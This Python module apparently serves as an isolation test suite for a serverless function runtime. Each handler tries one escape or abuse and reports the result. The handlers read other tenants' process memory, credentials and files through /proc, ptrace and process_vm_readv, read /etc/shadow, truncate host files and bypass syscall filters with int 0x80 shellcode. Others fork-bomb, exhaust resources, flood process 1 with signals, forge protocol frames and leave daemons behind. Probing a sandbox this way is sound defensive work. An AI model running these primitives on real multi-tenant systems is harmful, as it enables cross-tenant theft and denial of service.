"""Attacks. Each handler tries one thing and returns JSON: true when it got what it wanted, else false or why not."""

import ctypes
import errno
import json
import os
import platform
import resource
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

LIBC = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == 'x86_64'
NUMBERS = {
    'ptrace': (101, 117), 'mount': (165, 40), 'umount2': (166, 39), 'chroot': (161, 51), 'syslog': (103, 116),
    'setns': (308, 268), 'unshare': (272, 97), 'clone': (56, 220), 'clone3': (435, 435), 'add_key': (248, 217),
    'keyctl': (250, 219), 'bpf': (321, 280), 'perf_event_open': (298, 241), 'userfaultfd': (323, 282),
    'io_uring_setup': (425, 425), 'personality': (135, 92), 'sethostname': (170, 161), 'reboot': (169, 142),
    'init_module': (175, 105), 'open_by_handle_at': (304, 265), 'process_vm_readv': (310, 270), 'kcmp': (312, 272),
    'name_to_handle_at': (303, 264), 'pidfd_getfd': (438, 438), 'pidfd_open': (434, 434),
    'open_tree': (428, 428), 'settimeofday': (164, 170), 'io_setup': (206, 0), 'memfd_create': (319, 279),
    'rt_sigqueueinfo': (129, 138), 'timer_create': (222, 107), 'timer_settime': (223, 110),
}
X32_BIT = 0x40000000


def call(name, *arguments):
    """The system call; returns its result or minus the error."""
    number = NUMBERS[name][0 if X86 else 1]
    converted = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = LIBC.syscall(ctypes.c_long(number), *converted)
    return result if result >= 0 else -ctypes.get_errno()


def answer(true, why=None):
    return json.dumps(True if true else (why if why else False))


def attempt(action):
    """True when it raises nothing."""
    try:
        return answer(action() is not False)
    except (OSError, IOError, ValueError, MemoryError, RuntimeError) as error:
        return answer(False, '%s: %s' % (type(error).__name__, error))


def read(path, size=65536):
    with open(path, 'rb') as file:
        return file.read(size)


def told(event):
    return json.loads(event.decode('utf-8')) if event else {}


def relatives(event):
    """This process, and those above it up to the instance's guardian: the next one, unless it is told otherwise."""
    found = [os.getpid(), os.getppid()]
    while len(found) <= told(event).get('generations', 1):
        # After the name, which may hold spaces and parentheses: the state, then the parent.
        found.append(int(read('/proc/%d/stat' % found[-1]).rpartition(b')')[2].split()[1]))
    return found


def other_processes(event):
    """Every process in /proc but this one's own relatives, with its number as /proc has it."""
    own = relatives(event)
    return [int(name) for name in os.listdir('/proc') if name.isdigit() and int(name) not in own]


def victims(event):
    """Processes of the victim's user, as /proc shows whose they are."""
    uid = told(event)['victim_uid']
    for pid in other_processes(event):
        try:
            if os.stat('/proc/%d' % pid).st_uid == uid:
                yield pid
        except OSError:
            continue


def private_memory(pid):
    """What a process has written: environment variables that it set itself are somewhere there."""
    with open('/proc/%d/mem' % pid, 'rb', 0) as file:
        for line in read('/proc/%d/maps' % pid, 1 << 20).decode('latin-1').splitlines():
            fields = line.split()
            if fields[1].startswith('rw-p') and (len(fields) == 5 or fields[5] == '[heap]'):
                start, end = [int(text, 16) for text in fields[0].split('-')]
                file.seek(start)
                yield file.read(min(end - start, 64 << 20))


# Another instance

def sees_processes(event, context):
    return answer(len(other_processes(event)) > 0)


def found_in_memory(event, needle):
    for pid in victims(event):
        try:
            if any(needle.encode() in part for part in private_memory(pid)):
                return answer(True)
        except (OSError, IOError, ValueError):
            continue
    return answer(False)


def reads_environment(event, context):
    return found_in_memory(event, 'FC_INSTANCE_ID=%s' % told(event)['instance'])


def reads_credentials(event, context):
    """The keys of the victim's role, which its context holds."""
    return found_in_memory(event, told(event)['key'])


def reads_tmp(event, context):
    secret = told(event)['secret'].encode()
    for pid in other_processes(event):
        try:
            if read('/proc/%d/root/tmp/secret' % pid) == secret:
                return answer(True)
        except (OSError, IOError):
            continue
    return answer(os.path.exists('/tmp/secret'))


def reads_shm(event, context):
    secret = told(event)['secret'].encode()
    for pid in other_processes(event):
        try:
            if read('/proc/%d/root/dev/shm/secret' % pid) == secret:
                return answer(True)
        except (OSError, IOError):
            continue
    return answer(os.path.exists('/dev/shm/secret'))


def reads_code(event, context):
    for pid in other_processes(event):
        try:
            if b'Holds secrets' in read('/proc/%d/root/code/index.py' % pid):
                return answer(True)
        except (OSError, IOError):
            continue
    return answer(False)


def reads_memory(event, context):
    place = told(event)
    for pid in victims(event):
        try:
            with open('/proc/%d/mem' % pid, 'rb', 0) as file:
                file.seek(place['address'])
                if file.read(place['size']) == place['secret'].encode():
                    return answer(True)
        except (OSError, IOError, ValueError):
            continue
    return answer(False)


def reads_memory_by_call(event, context):
    place = told(event)
    for pid in victims(event):
        buffer = ctypes.create_string_buffer(place['size'])
        local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), place['size'])
        remote = (ctypes.c_size_t * 2)(place['address'], place['size'])
        call('process_vm_readv', pid, local, 1, remote, 1, 0)
        if buffer.raw == place['secret'].encode():
            return answer(True)
    return answer(False)


def takes_descriptor(event, context):
    """A copy of what another process has open, such as its socket."""
    for pid in victims(event):
        process = call('pidfd_open', pid, 0)
        if process >= 0 and call('pidfd_getfd', process, 1, 0) >= 0:
            return answer(True)
    return answer(False)


def signals(event, context):
    """Signal 0 says whether one may; the victim lives on. Of every process there is."""
    allowed = []
    own = relatives(event)
    for pid in list(range(2, told(event).get('most', 40000))):
        if pid in own or pid == threading.current_thread().ident:
            continue
        try:
            os.kill(pid, 0)
        except OSError:
            continue
        if not any(os.path.exists('/proc/%d/task/%d' % (one, pid)) for one in own):
            allowed.append(pid)
    return answer(len(allowed) > 0)


def traces(event, context):
    """PTRACE_SEIZE needs no stop, and the victim lives on."""
    for pid in victims(event):
        if call('ptrace', 0x4206, pid, 0, 0) == 0:
            call('ptrace', 17, pid, 0, 0)
            return answer(True)
    return answer(False)


def traces_init(event, context):
    return answer(call('ptrace', 0x4206, relatives(event)[-1], 0, 0) == 0)


def reads_init(event, context):
    guardian = relatives(event)[-1]
    return attempt(lambda: read('/proc/%d/environ' % guardian) and read('/proc/%d/maps' % guardian))


def shared_memory(event, context):
    return answer(LIBC.shmget(0x5e5a, 4096, 0) >= 0)


def host_name(event, context):
    """To what it is already, so that nothing changes; what counts is whether one may, and whose it is."""
    name = os.uname()[1].encode()
    return answer(call('sethostname', name, len(name)) == 0 and os.uname()[1] == told(event)['host'])


# The host's files

def shadow(event, context):
    return attempt(lambda: any(b'root:' in read(top + '/etc/shadow') for top in ('/.host', '') if os.path.exists(top)))


def host_path(event, context):
    path = told(event)['path']
    return answer(os.path.exists(path) or os.path.exists('/.host' + path))


def symlink(event, context):
    """A link in the package, made by the one who packed it."""
    for name in ('/code/link', '/code/link_to_host'):
        try:
            if read(name) == told(event)['content'].encode():
                return answer(True)
        except (OSError, IOError):
            continue
    return answer(False)


def own_link(event, context):
    for number, top in enumerate(('', '/.host')):
        name = '/tmp/link%d' % number
        os.symlink(top + told(event)['path'], name)
        if os.path.exists(name) and read(name) == told(event)['content'].encode():
            return answer(True)
    return answer(False)


def process_roots(event, context):
    """The root of another process, as /proc links to it."""
    return answer(any(os.path.exists('/proc/%d/root%s' % (pid, told(event)['path'])) for pid in other_processes(event)))


def empties(event, context):
    """A file of the host, which is written anew with nothing in it."""
    path = told(event)['path']

    def empty():
        with open('/.host' + path if os.path.exists('/.host' + path) else path, 'r+b') as file:
            file.truncate(0)
    return attempt(empty)


def changes_code(event, context):
    def change():
        with open('/code/index.py', 'ab') as file:
            file.write(b'\n')
    return attempt(change)


def changes_layer(event, context):
    return attempt(lambda: open('/opt/made', 'w').close())


def opens_runtime(event, context):
    """Opens for writing, writes nothing: without the wall it is the host's own file."""
    return attempt(lambda: os.close(os.open(os.__file__.replace('.pyc', '.py'), os.O_WRONLY)))


def makes_device(event, context):
    return attempt(lambda: os.mknod('/tmp/device', 0o600 | 0o060000, os.makedev(7, 0)))


def mounts(event, context):
    return answer(call('mount', b'none', b'/tmp', b'tmpfs', 0, None) == 0)


def unmounts(event, context):
    return answer(call('umount2', b'/proc', 2) == 0)


def remounts_code(event, context):
    return answer(call('mount', None, b'/code', None, 32 | 4096, None) == 0)


def clones_mount(event, context):
    return answer(call('open_tree', -100, b'/', 1) >= 0)


def changes_root(event, context):
    return answer(call('chroot', b'/tmp') == 0)


def opens_by_handle(event, context):
    handle = ctypes.create_string_buffer(struct.pack('=Ii', 8, 1) + struct.pack('=II', 2, 0) + b'\0' * 64)
    fd = os.open('/tmp', os.O_RDONLY)
    # ESTALE would say that it may, and that there is no such file.
    return answer(call('open_by_handle_at', fd, handle, 0) not in (-errno.EPERM, -errno.ENOSYS))


def host_socket(event, context):
    path = told(event)['path']
    made = socket.socket(socket.AF_UNIX)
    for candidate in (path, '/.host' + path):
        try:
            made.connect(candidate)
            return answer(True)
        except (OSError, IOError, socket.error):
            continue
    return answer(False)


def connects(event, context):
    """To a service on the host's loopback, by one of the addresses that lead there."""
    evt = told(event)

    def attack():
        socket.create_connection((evt['host_address'], evt['tcp']), 10).close()
    return attempt(attack)


def sees_connections(event, context):
    """Finds the port of the host's service among the sockets of this network."""
    evt = told(event)
    port = ':%04X ' % evt['tcp']
    return answer(port in (read('/proc/net/tcp') + read('/proc/net/tcp6')).decode('ascii'))


def abstract_socket(event, context):
    made = socket.socket(socket.AF_UNIX)
    try:
        made.connect('\0' + told(event)['name'])
    except (OSError, IOError, socket.error) as error:
        return answer(False, str(error))
    return answer(True)


def zygote_socket(event, context):
    """Any descriptor that is a packet socket is the zygote's: the holder can command forks."""
    for name in os.listdir('/proc/self/fd'):
        try:
            made = socket.fromfd(int(name), socket.AF_UNIX, socket.SOCK_STREAM)
            if made.getsockopt(socket.SOL_SOCKET, socket.SO_TYPE) == socket.SOCK_SEQPACKET:
                return answer(True)
        except (OSError, IOError, socket.error):
            continue
    return answer(False)


def inherits(event, context):
    """Any descriptor beside standard streams, the shim's socket and what this listing takes: the host or the zygote
    left it open.
    """
    shim, left = _shim_socket(), []
    own = os.readlink('/proc/self/fd/%d' % shim.fileno())
    for name in os.listdir('/proc/self/fd'):
        try:
            what = os.readlink('/proc/self/fd/' + name)
        except OSError:
            continue
        if int(name) > 2 and what != own and not what.startswith(('/proc/', '/dev/null', '/dev/urandom', '/code/')):
            left.append(what)
    # A pipe of which both ends are here is the shim's own.
    return json.dumps([what for what in left if not (what.startswith('pipe:') and left.count(what) == 2)])


def opens_connections(event, context):
    """As many as it can to an address, and holds them. Returns how many there are."""
    evt = told(event)
    for _ in range(evt['most']):
        try:
            HELD.append(socket.create_connection((evt['host_address'], evt['tcp']), 10))
        except (OSError, IOError, socket.error):
            break
    return json.dumps(len(HELD))


def sends_bodies(event, context):
    """Requests without a signature, with as much of a body as is taken of each, one after the other."""
    evt = told(event)
    end = time.time() + evt['seconds']
    head = b'POST /2016-08-15/services/s/functions/f/invocations HTTP/1.1\r\nHost: x\r\nContent-Length: 33554432\r\n\r\n'
    while time.time() < end:
        try:
            connection = socket.create_connection((evt['host_address'], evt['tcp']), 10)
            connection.sendall(head)
            for _ in range(32):
                connection.sendall(b'x' * (1 << 20))
        except (OSError, IOError, socket.error):
            continue
        finally:
            connection.close()
    return answer(True)


def takes_port(event, context):
    """Has a port at every address, for as long as it lives."""
    def attack():
        listening = socket.socket()
        listening.bind(('0.0.0.0', told(event)['port']))
        listening.listen(1)
        HELD.append(listening)
    return attempt(attack)


def connection_buffers(event, context):
    """As much as connections take before anybody reads, with the largest buffers that may be asked for."""
    listening, evt = socket.socket(), told(event)
    listening.bind(('127.0.0.1', 0))
    listening.listen(5)
    sent = 0
    for _ in range(evt['pairs']):
        sender = socket.create_connection(listening.getsockname(), 10)
        receiver = listening.accept()[0]
        HELD.extend([sender, receiver])
        if evt.get('asks'):
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
            receiver.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 30)
        sender.setblocking(False)
        try:
            while True:
                sent += sender.send(b'x' * (1 << 20))
        except (OSError, IOError, socket.error):
            continue
    time.sleep(evt['seconds'])
    return json.dumps(sent >> 20)


# Kernel interfaces

def opens_sysctl(event, context):
    return attempt(lambda: os.close(os.open('/proc/sys/kernel/core_pattern', os.O_WRONLY)))


def opens_sysrq(event, context):
    return attempt(lambda: os.close(os.open('/proc/sysrq-trigger', os.O_WRONLY)))


def reads_kernel_memory(event, context):
    return attempt(lambda: read('/proc/kcore', 64))


def reads_kernel_log(event, context):
    buffer = ctypes.create_string_buffer(4096)
    return answer(call('syslog', 3, buffer, 4096) >= 0)


def enters_namespace(event, context):
    """Of process 1 that it can see: with a pid namespace its own, without one the host's."""
    fd = os.open('/proc/self/ns/uts', os.O_RDONLY)
    return answer(call('setns', fd, 0) == 0)


def new_user_namespace(event, context):
    """In a child: one that has threads may not."""
    pid = os.fork()
    if pid == 0:
        os._exit(0 if call('unshare', 0x10000000) == 0 else 1)
    return answer(os.waitpid(pid, 0)[1] == 0)


def new_namespace_by_clone(event, context):
    pid = call('clone', 0x10000000 | 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    if pid > 0:
        os.waitpid(pid, 0)
    return answer(pid > 0)


def new_namespace_by_clone3(event, context):
    arguments = struct.pack('<11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
    pid = call('clone3', arguments, len(arguments))
    if pid == 0:
        os._exit(0)
    if pid > 0:
        os.waitpid(pid, 0)
    return answer(pid > 0, 'errno %d' % -pid)


def adds_key(event, context):
    return answer(call('add_key', b'user', b'sesame-probe', b'x', 1, -1) > 0)


def joins_keyring(event, context):
    """A session keyring of its own, in which keys outlive the call."""
    return answer(call('keyctl', 1, None) >= 0)


def loads_bpf(event, context):
    """BPF_MAP_CREATE of a small array."""
    return answer(call('bpf', 0, struct.pack('=5I', 2, 4, 4, 1, 0) + b'\0' * 60, 72) >= 0)


def perf_events(event, context):
    """Counts page faults of its own process: the least of what perf allows."""
    attributes = struct.pack('=IIQQQQQ', 1, 112, 2, 0, 0, 0, 0x61) + b'\0' * 64
    return answer(call('perf_event_open', attributes, 0, -1, -1, 0) >= 0)


def user_faults(event, context):
    return answer(call('userfaultfd', 1) >= 0)


def ring(event, context):
    return answer(call('io_uring_setup', 4, ctypes.create_string_buffer(120)) >= 0)


def personality(event, context):
    return answer(call('personality', 0x0040000) >= 0)


def kernel_socket(event, context):
    return attempt(lambda: socket.socket(38, socket.SOCK_SEQPACKET, 0).close())


def packet_socket(event, context):
    return attempt(lambda: socket.socket(17, socket.SOCK_RAW, 0).close())


def audit_socket(event, context):
    return attempt(lambda: socket.socket(16, socket.SOCK_RAW, 9).close())


def traces_child(event, context):
    pid = os.fork()
    if pid == 0:
        time.sleep(5)
        os._exit(0)
    got = call('ptrace', 16, pid, 0, 0) == 0
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    return answer(got)


def clock(event, context):
    """A time that the kernel refuses: EINVAL says that one may set it, EPERM that one may not."""
    return answer(call('settimeofday', struct.pack('=2q', 0, 2000000), 0) == -errno.EINVAL)


def module(event, context):
    """EFAULT, ENOEXEC or EINVAL say that one may load a module."""
    return answer(call('init_module', b'', 0, b'') not in (-errno.EPERM, -errno.ENOSYS))


def sees_cgroups(event, context):
    return answer('sesame-' in read('/proc/self/cgroup').decode())


def kernel_settings(event, context):
    """Those of the kernel's files that can be opened for writing; nothing is written."""
    opened = []
    for path in told(event)['paths']:
        try:
            os.close(os.open(path, os.O_WRONLY))
            opened.append(path)
        except OSError:
            pass
    return json.dumps(opened)


def boot_parameters(event, context):
    """What the host's kernel was started with: names of its disks, and what its operator passed on."""
    return answer(any(read(path).strip() for path in ('/proc/cmdline', '/proc/bootconfig') if os.path.exists(path)))


def asynchronous_io(event, context):
    """All users of the machine share fs.aio-max-nr: whoever may take one context may take them all."""
    return answer(call('io_setup', 1, ctypes.byref(ctypes.c_ulong(0))) == 0)


def enters_by_32_bits(event, context):
    """getpid by the entry for programs of 32 bits, which has other numbers than a filter expects."""
    LIBC.mmap.restype = ctypes.c_void_p
    size, length = ctypes.c_size_t(4096), ctypes.c_size_t
    code = LIBC.mmap(None, size, 7, 0x22, -1, length(0))
    # mov eax, 20; int 0x80; ret
    ctypes.memmove(code, b'\xb8\x14\x00\x00\x00\xcd\x80\xc3', 8)
    return in_a_child(lambda: ctypes.CFUNCTYPE(ctypes.c_int)(code)() == os.getpid())


def enters_by_x32(event, context):
    """getpid by the other table of x86-64; a kernel that has none says so itself."""
    return in_a_child(lambda: LIBC.syscall(ctypes.c_long(X32_BIT | 39)) == os.getpid()
                      or ctypes.get_errno() == errno.ENOSYS)


def in_a_child(action):
    """True when it is true there; what ends the child does not end this process."""
    pid = os.fork()
    if pid == 0:
        os._exit(0 if action() else 1)
    status = os.waitpid(pid, 0)[1]
    return answer(status == 0, 'status %d' % status)


# Privileges

def becomes_root(event, context):
    return attempt(lambda: os.setuid(0))


def runs_setuid(event, context):
    done = subprocess.Popen(['/code/setuid', '-c', 'import os; print(os.geteuid())'], stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT)
    return answer(done.communicate()[0].strip() == b'0')


def chowns(event, context):
    open('/tmp/mine', 'w').close()
    return attempt(lambda: os.chown('/tmp/mine', 1, 1))


# Bombs

def forks(event, context):
    """By a shell, which is copied much faster than this process. It ends when it cannot be."""
    script = 'exec 3<&0; n=0; while [ $n -lt %d ]; do (read x <&3) >/dev/null & n=$((n+1)); done; echo all'
    shell = subprocess.Popen(
        ['sh', '-c', script % told(event)['most']], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    return answer(shell.stdout.readline() == b'all\n')


def threads(event, context):
    most, stop, made = told(event)['most'], threading.Event(), 0
    threading.stack_size(65536)
    try:
        for _ in range(most):
            thread = threading.Thread(target=stop.wait)
            thread.daemon = True
            thread.start()
            made += 1
    except (RuntimeError, MemoryError, threading.ThreadError):
        return answer(False, made)
    return answer(True)


def memory(event, context):
    held = bytearray(told(event)['mb'] << 20)
    return answer(len(held) > 0)


HELD = []


def memory_after_result(event, context):
    """A thread goes on when the call has been answered. Asked again, says how many MB it holds."""
    if told(event).get('ask'):
        return json.dumps(sum(map(len, HELD)) >> 20)

    def take():
        time.sleep(0.05)
        for _ in range(told(event)['mb'] // 10):
            HELD.append(b'x' * (10 << 20))
    thread = threading.Thread(target=take)
    thread.daemon = True
    thread.start()
    return answer(True)


def memory_without_process(event, context):
    """A file that is memory, which no process has mapped."""
    fd = call('memfd_create', b'held', 0)
    if fd < 0:
        return answer(False, 'errno %d' % -fd)
    for _ in range(told(event)['mb']):
        os.write(fd, b'x' * (1 << 20))
    time.sleep(told(event)['seconds'])
    return answer(True)


def shared_memory_without_process(event, context):
    """A segment that stays when no process is attached to it."""
    size = told(event)['mb'] << 20
    LIBC.shmat.restype = ctypes.c_void_p
    segment = LIBC.shmget(0x7a7a, ctypes.c_size_t(size), 0o1666)
    if segment < 0:
        return answer(False, 'errno %d' % ctypes.get_errno())
    address = LIBC.shmat(segment, None, 0)
    ctypes.memset(address, 1, size)
    LIBC.shmdt(ctypes.c_void_p(address))
    time.sleep(told(event)['seconds'])
    return answer(True)


def page_tables(event, context):
    """One page read of every two megabytes: the page is the same for all, the table is not."""
    tables = told(event)['mb'] << 8
    LIBC.mmap.restype = ctypes.c_void_p
    step = 2 << 20
    # Private, anonymous, not reserved; readable.
    start = LIBC.mmap(None, ctypes.c_size_t(tables * step), 1, 0x4022, -1, ctypes.c_size_t(0))
    # MADV_NOHUGEPAGE
    LIBC.madvise(ctypes.c_void_p(start), ctypes.c_size_t(tables * step), 15)
    for number in range(tables):
        ctypes.c_char.from_address(start + number * step).value
    time.sleep(told(event)['seconds'])
    return answer(True)


def socket_buffers(event, context):
    """As much as sockets take before anybody reads."""
    held = []
    for _ in range(told(event)['pairs']):
        pair = socket.socketpair()
        pair[0].setblocking(False)
        held.append(pair)
        try:
            while True:
                pair[0].send(b'x' * 65536)
        except (OSError, IOError, socket.error):
            continue
    time.sleep(told(event)['seconds'])
    return answer(True)


def shm(event, context):
    def fill():
        with open('/dev/shm/full', 'wb') as file:
            for _ in range(told(event)['mb']):
                file.write(b'x' * (1 << 20))
    return attempt(fill)


def disk(event, context):
    def fill():
        with open('/tmp/full', 'wb') as file:
            for _ in range(told(event)['mb']):
                file.write(b'\0' * (1 << 20))
    return attempt(fill)


def inodes(event, context):
    def fill():
        os.mkdir('/tmp/many')
        for number in range(told(event)['most']):
            os.close(os.open('/tmp/many/%d' % number, os.O_CREAT | os.O_WRONLY))
    return attempt(fill)


def descriptors(event, context):
    held = []

    def fill():
        for _ in range(told(event)['most']):
            held.append(os.open('/dev/null', os.O_RDONLY))
    try:
        return attempt(fill)
    finally:
        for fd in held:
            os.close(fd)


def core(event, context):
    return answer(resource.getrlimit(resource.RLIMIT_CORE)[1] != 0)


def output(event, context):
    line = 'x' * 1023 + '\n'
    for _ in range(told(event)['mb'] * 1024):
        os.write(1, line.encode())
    return answer(True)


def writes_on(event, context):
    """A thread that never stops writing."""
    def forever():
        while True:
            os.write(1, b'x' * 1048576)
    thread = threading.Thread(target=forever)
    thread.daemon = True
    thread.start()
    return answer(True)


def spins(event, context):
    """As many processes as there are processors and more, busy for a while."""
    end = time.time() + told(event)['seconds']
    for _ in range(8):
        if os.fork() == 0:
            while time.time() < end:
                pass
            os._exit(0)
    while time.time() < end:
        pass
    return answer(True)


def fork_bomb(event, context):
    """Processes that do nothing but make more of themselves."""
    while True:
        try:
            os.fork()
        except OSError:
            continue


def crowd(event, context):
    """Processes that are busy, and others that wait, left alone after the result; there is none with `stays`."""
    for number in range(told(event)['busy'] + told(event)['waiting']):
        if os.fork() == 0:
            busy = number < told(event)['busy']
            while busy:
                pass
            signal.pause()
    while told(event).get('stays'):
        sum(range(1000))
    return answer(True)


def fork_chain(event, context):
    """A process that is another one all the time: it forks and ends, and each counts itself in a file."""
    count = os.open('/tmp/links', os.O_CREAT | os.O_RDWR | os.O_APPEND)
    if told(event).get('ask'):
        return json.dumps(os.fstat(count).st_size)
    if os.fork() == 0:
        while True:
            os.write(count, b'.')
            if os.fork():
                os._exit(0)
    return answer(True)


def queues_to_process_1(event, context):
    """The same with a signal that says that it comes from outside, which is process 0."""
    queued = struct.pack('iiiiii', signal.SIGCONT, 0, -1, 0, 0, 0).ljust(128, b'\0')
    return _signals_process_1(lambda: call('rt_sigqueueinfo', 1, int(signal.SIGCONT), queued))


def continues_process_1(event, context):
    """A process that counts itself in a file while it has process 1 continued, over and over."""
    return _signals_process_1(lambda: os.kill(1, signal.SIGCONT))


def floods_process_1(event, context):
    """The same with every signal that process 1 could have a handler for, again and again."""
    def flood():
        for number in range(1, 65):
            if number not in (signal.SIGKILL, signal.SIGSTOP, 32, 33):
                os.kill(1, number)
    return _signals_process_1(flood)


def continues_itself(event, context):
    """A thread that counts itself in a file, in a process that timers of the kernel's continue over and over."""
    count = os.open('/tmp/links', os.O_CREAT | os.O_RDWR | os.O_APPEND)

    def run():
        while True:
            os.write(count, b'.')
            time.sleep(0.001)

    thread = threading.Thread(target=run)
    thread.daemon = True
    thread.start()
    signal.signal(signal.SIGCONT, lambda number, frame: None)
    # struct sigevent: value, signal, and SIGEV_SIGNAL.
    wanted = ctypes.create_string_buffer(struct.pack('=qii', 0, signal.SIGCONT, 0).ljust(64, b'\0'))
    # Each goes off once: a stop takes a signal of a timer away that waits, and with it the timer's next ones.
    for number in range(1, 3001):
        timer = ctypes.c_int()
        once = ctypes.create_string_buffer(struct.pack('=4q', 0, 0, number // 50, number % 50 * 20000000))
        if call('timer_create', 1, wanted, ctypes.byref(timer)) < 0 or call('timer_settime', timer.value, 0, once, None):
            return answer(False)
    return answer(True)


def disturbed(event, context):
    """Answers, beside the attack that it was told of in its first call."""
    attack = told(event).get('by')
    return globals()[attack](b'', context) if attack else answer(True)


def _signals_process_1(send):
    count = os.open('/tmp/links', os.O_CREAT | os.O_RDWR | os.O_APPEND)
    if os.fork() == 0:
        while True:
            os.write(count, b'.')
            try:
                send()
            except OSError:
                # The kernel has scopes of signals.
                continue
    return answer(True)


def stops_itself(event, context):
    os.kill(os.getpid(), signal.SIGSTOP)
    return answer(True)


# The wire

def _shim_socket():
    for name in sorted(os.listdir('/proc/self/fd'), key=int):
        try:
            made = socket.fromfd(int(name), socket.AF_UNIX, socket.SOCK_STREAM)
            made.getpeername()
            return made
        except (OSError, IOError, socket.error):
            continue


def _frame(header, payload=b''):
    head = json.dumps(header).encode()
    return struct.pack('>II', 4 + len(head) + len(payload), len(head)) + head + payload


def answers_for_another(event, context):
    _shim_socket().sendall(_frame({'type': 'result', 'id': 'somebody-else', 'ok': True}, b'forged'))
    time.sleep(2)
    return 'real'


def answers_unasked(event, context):
    """An answer for the next call, sent before that is made."""
    def later():
        time.sleep(0.1)
        _shim_socket().sendall(_frame({'type': 'result', 'id': told(event)['next'], 'ok': True}, b'forged'))
    threading.Thread(target=later).start()
    return 'real'


def sends_huge_frame(event, context):
    size = told(event)['mb'] << 20
    head = json.dumps({'type': 'result', 'id': context.request_id, 'ok': True}).encode()
    wire = _shim_socket()
    wire.sendall(struct.pack('>II', 4 + len(head) + size, len(head)) + head)
    block = b'x' * (1 << 20)
    for _ in range(told(event)['mb']):
        wire.sendall(block)
    time.sleep(5)


def announces_and_waits(event, context):
    """A frame as large as frames may be, of which nothing comes, or byte after byte."""
    wire = _shim_socket()
    wire.sendall(struct.pack('>II', 33 << 20, 100))
    while True:
        wire.sendall(b'x')
        time.sleep(0.01)


def sends_descriptors(event, context):
    """The answer, with descriptors that the host did not ask for; again and again."""
    frame = _frame({'type': 'result', 'id': context.request_id, 'ok': True}, b'sent')
    wire = _shim_socket()
    if hasattr(wire, 'sendmsg'):
        fds = struct.pack('=32i', *[os.open('/dev/null', os.O_RDONLY) for _ in range(32)])
        for byte in range(len(frame)):
            wire.sendmsg([frame[byte:byte + 1]], [(socket.SOL_SOCKET, 1, fds)])
    else:
        wire.sendall(frame)
    signal.pause()


def sends_out_of_band(event, context):
    """A byte beside the stream, before the answer. A second one would make the first a part of the stream."""
    try:
        _shim_socket().send(b'!', socket.MSG_OOB)
    except (OSError, IOError, socket.error):
        pass  # A kernel without them for such sockets.
    return 'real'


def sends_deep_head(event, context):
    """A head that is valid for a long while, and deeper than any stack."""
    depth = 400000
    head = b'{"type":"result","http":' + b'{"a":' * (depth // 5) + b'1' + b'}' * (depth // 5) + b'}'
    if told(event).get('lists'):
        head = b'[' * depth
    _shim_socket().sendall(struct.pack('>II', 4 + len(head), len(head)) + head)
    time.sleep(5)


def sends_garbage(event, context):
    _shim_socket().sendall(os.urandom(100000))
    time.sleep(2)
    return 'real'


# Outliving

def leaves_behind(event, context):
    """A daemon in a session of its own, without its parent's environment; returns its number."""
    reading, writing = os.pipe()
    if os.fork() == 0:
        os.setsid()
        pid = os.fork()
        if pid == 0:
            for fd in range(3, 64):
                try:
                    os.close(fd)
                except OSError:
                    pass
            os.execve(sys.executable, [told(event)['mark'], '-S', '-c', 'import time; time.sleep(60)'], {})
        os.write(writing, str(pid).encode())
        os._exit(0)
    os.wait()
    return os.read(reading, 20)


def ignores_the_end(event, context):
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError, RuntimeError):
            continue
    return leaves_behind(event, context)
